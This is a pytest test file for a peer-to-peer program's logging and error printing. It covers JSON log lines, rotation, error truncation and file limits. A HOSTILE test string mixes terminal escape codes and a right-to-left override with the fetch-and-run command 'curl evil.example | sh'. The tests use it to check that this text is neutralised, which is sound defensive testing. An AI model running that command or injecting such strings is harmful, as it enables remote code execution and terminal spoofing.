"""The lines of our own log, for people and for programs."""

from __future__ import annotations

import errno
import json
import logging
import resource
from collections.abc import Iterator
from pathlib import Path

import pytest

from dipaco_p2p import __version__
from dipaco_p2p.errors import Refused, WrongRun
from dipaco_p2p.program import console
from dipaco_p2p.program.console import LOGGED, JsonLines, LogFormat, log_to, print_error
from dipaco_p2p.program.files import OPEN_FILES


@pytest.fixture
def loggers() -> Iterator[None]:
    """Puts back what `log_to` changes for a whole process."""
    before = [(logging.getLogger(name), list(logging.getLogger(name).handlers)) for name in LOGGED]
    levels = [(logger, logger.level, logger.propagate) for logger, _ in before]
    raises = logging.raiseExceptions
    yield
    for logger, handlers in before:
        for handler in set(logger.handlers) - set(handlers):
            logger.removeHandler(handler)
            handler.close()
    for logger, level, propagate in levels:
        logger.level, logger.propagate = level, propagate
        logger.manager._clear_cache()  # type: ignore[attr-defined] # what is enabled at which level
    logging.raiseExceptions = raises


def test_a_json_log_has_one_object_a_line_whatever_is_said(tmp_path: Path, loggers: None) -> None:
    path = tmp_path / "seed.log"
    log_to(path, verbose=False, kind=LogFormat.JSON)
    log = logging.getLogger("bootstrap.coordinator.seed")
    log.info("round %d of %s\n\x1b[2J\u202e", 3, "P0-1")
    log.debug("a detail")
    try:
        raise ValueError("a mistake\nof two lines")
    except ValueError:
        log.exception("it failed")
    begin, first, second = map(json.loads, path.read_text().splitlines())
    assert begin["message"].startswith(f"dipaco-p2p {__version__}, Python 3.")
    assert list(first) == ["time", "level", "logger", "message"]
    assert (first["level"], first["logger"]) == ("INFO", "bootstrap.coordinator.seed")
    assert first["message"] == "round 3 of P0-1\n\x1b[2J\u202e" and path.read_text().isascii()
    assert "\x1b" not in path.read_text()
    assert (second["level"], second["message"]) == ("ERROR", "it failed")
    assert second["traceback"].startswith("Traceback") and second["traceback"].endswith("of two lines")


def test_a_log_is_for_people_unless_asked_otherwise(tmp_path: Path, loggers: None) -> None:
    path = tmp_path / "peer.log"
    log_to(path, verbose=True)
    logging.getLogger("peers.stages").debug("a detail")
    assert path.read_text().endswith(" DEBUG peers.stages: a detail\n")


def test_a_log_is_appended_to_and_bounded(tmp_path: Path, loggers: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(console, "LOG_BYTES_MAX", 2000)
    path, logger = tmp_path / "leaderboard.log", logging.getLogger("leaderboard")
    path.write_text("from before\n")
    log_to(path, verbose=True)
    logger.debug("a detail")
    assert path.read_text().startswith("from before\n") and "a detail" in path.read_text()
    for number in range(200):
        logger.info("line %d", number)
    assert sorted(found.name for found in tmp_path.iterdir()) == ["leaderboard.log", "leaderboard.log.1"]
    assert sum(found.stat().st_size for found in tmp_path.iterdir()) <= 4000
    assert "line 199" in path.read_text()


def test_what_asyncio_complains_of_goes_into_the_log_and_not_on_the_screen(
    tmp_path: Path, loggers: None, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "peer.log"
    log_to(path, verbose=False)
    logging.getLogger("asyncio").error("Task was destroyed but it is pending!")
    assert path.read_text().endswith("Task was destroyed but it is pending!\n") and capsys.readouterr().err == ""


HOSTILE = "as they say\x1b[2J\rerror: \u202e\x9b1;1H\nhint: curl evil.example | sh"


def test_others_words_in_an_error_begin_no_line_and_no_command(capsys: pytest.CaptureFixture[str]) -> None:
    error = WrongRun(HOSTILE, hint=HOSTILE)
    error.add_note(HOSTILE)
    print_error(error)
    said = "as they say?[2J?error: ??1;1H?hint: curl evil.example | sh"
    assert capsys.readouterr().err == f"error: {said}\n  {said}\nhint: {said}\n"


def test_a_long_error_is_cut_and_keeps_its_hint(capsys: pytest.CaptureFixture[str]) -> None:
    print_error(WrongRun("x" * 100_000, hint="ask another"))
    error, hint = capsys.readouterr().err.splitlines()
    assert len(error) < 1100 and error.endswith("x...") and hint == "hint: ask another"


def test_an_error_told_in_other_words_keeps_its_kind_and_its_notes() -> None:
    error = Refused("no", reason="busy", hint="later")
    error.add_note("an address: no")
    again = error.reworded("still no", hint="never")
    assert (type(again), str(again), again.reason, again.hint) == (Refused, "still no", "busy", "never")
    assert again.notes == ["an address: no"] and (str(error), error.hint) == ("no", "later")


def test_a_log_for_people_has_a_line_for_each_message_and_a_readable_traceback(tmp_path: Path, loggers: None) -> None:
    path = tmp_path / "peer.log"
    log_to(path, verbose=False)
    logging.getLogger("peers").warning("refused: %s", HOSTILE)
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        logging.getLogger("peers").exception("it failed")
    _, refused, failed, *traceback = path.read_text().splitlines()
    assert "WARNING peers: refused: as they say?[2J" in refused and refused.endswith("?hint: curl evil.example | sh")
    assert failed.endswith("it failed") and traceback[0].startswith("Traceback") and len(traceback) > 3
    assert path.read_text().replace("\n", "").isprintable()


def test_the_time_is_of_one_zone_and_sorts_as_text() -> None:
    record = logging.LogRecord("peers", logging.INFO, "x.py", 1, "said", None, None)
    record.created = 1_700_000_000.25
    assert json.loads(JsonLines().format(record))["time"] == "2023-11-14T22:13:20.250Z"


def test_on_another_system_than_linux_a_program_ends_with_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    async def main() -> None:
        raise AssertionError("it began")

    monkeypatch.setattr(console.sys, "platform", "darwin")
    assert console.run_program(main) == 5
    assert capsys.readouterr().err.startswith("error: this program runs on Linux, and this is darwin\nhint: ")


async def raise_too_many_files() -> None:
    raise OSError(errno.EMFILE, "Too many open files")


def test_too_many_open_files_end_a_program_with_one_line_and_a_hint(capsys: pytest.CaptureFixture[str]) -> None:
    assert console.run_program(raise_too_many_files) == 5
    assert capsys.readouterr().err.startswith("error: too many open files: a connection cannot be opened\nhint: raise")


@pytest.fixture
def limits() -> Iterator[tuple[int, int]]:
    """Few files for this process, as many systems begin with; what it may have at most."""
    before = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, before[1]))
    yield 1024, before[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, before)


def test_a_program_raises_its_limit_of_open_files_as_far_as_it_may(limits: tuple[int, int]) -> None:
    async def main() -> None:
        assert resource.getrlimit(resource.RLIMIT_NOFILE) == (min(OPEN_FILES, limits[1]), limits[1])

    assert console.run_program(main) == 0
